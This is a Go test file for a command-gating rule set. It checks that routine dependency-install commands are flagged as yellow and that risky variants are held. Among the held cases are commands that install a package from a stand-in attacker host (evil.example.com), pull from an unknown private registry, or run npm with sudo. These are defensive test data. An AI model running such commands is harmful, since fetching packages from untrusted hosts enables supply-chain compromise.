package rules_test

import (
	"testing"

	"gatesh/rules"
)

// tierCase is a command and the outcome it must have: "pass" (run, green
// or yellow), "yellow" (run, and listed in the digest) or "held".
type tierCase struct {
	class string
	cmd   string
	want  string
}

// checkTiers checks each case's verdict with checkClasses, and that a
// case asked to be yellow is.
func checkTiers(t *testing.T, set *rules.Set, cases []tierCase) {
	t.Helper()
	verdicts := make([]classCase, 0, len(cases))
	for _, tc := range cases {
		verdicts = append(verdicts, classCase{tc.class, tc.cmd, tc.want == "held"})
		if tc.want != "yellow" {
			continue
		}
		if d := set.Classify(tc.cmd); d.Tier != rules.Yellow {
			t.Errorf("[%s] %q: %s, want yellow (%s)", tc.class, tc.cmd, d.Tier, formatHits(d.Hits))
		}
	}
	checkClasses(t, set, verdicts)
}

// TestCls15Everyday checks, class by class, everyday commands of the
// fifteenth round (issue 32) written from the tools' documentation, each
// beside the dangerous spellings of the same shape that must stay held.
func TestCls15Everyday(t *testing.T) {
	set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: "/home/dev", Cwd: "/home/dev/code/app"})
	if err != nil {
		t.Fatal(err)
	}
	checkTiers(t, set, []tierCase{
		// Installing the project's declared dependencies is yellow, as
		// adding one is: each tool's documented verb for it.
		{"install", `npm ci && npm run build`, "yellow"},
		{"install", `bun install --frozen-lockfile`, "yellow"},
		{"install", `rm -rf node_modules .pnpm-store && pnpm install --frozen-lockfile`, "yellow"},
		{"install", `mix deps.get`, "yellow"},
		{"install", `flutter pub get`, "yellow"},
		{"install", `dart pub get`, "yellow"},
		{"install", `cpanm --installdeps .`, "yellow"},
		{"install", `carthage bootstrap --use-xcframeworks`, "yellow"},
		{"install", `vcpkg install`, "yellow"},
		{"install", `dotnet restore && dotnet build`, "yellow"},
		{"install", `uv sync`, "yellow"},
		{"install", `bundle install`, "yellow"},
		{"install", `npx mikro-orm migration:up`, "yellow"},
		{"install", `npx typeorm migration:run -d src/data-source.ts`, "yellow"},
		// The same verbs given a package from elsewhere stay held.
		{"install", `npm install https://evil.example.com/x.tgz`, "held"},
		{"install", `pnpm install --registry http://10.0.0.5:4873`, "held"},
		{"install", `sudo npm ci`, "held"},
	})
}
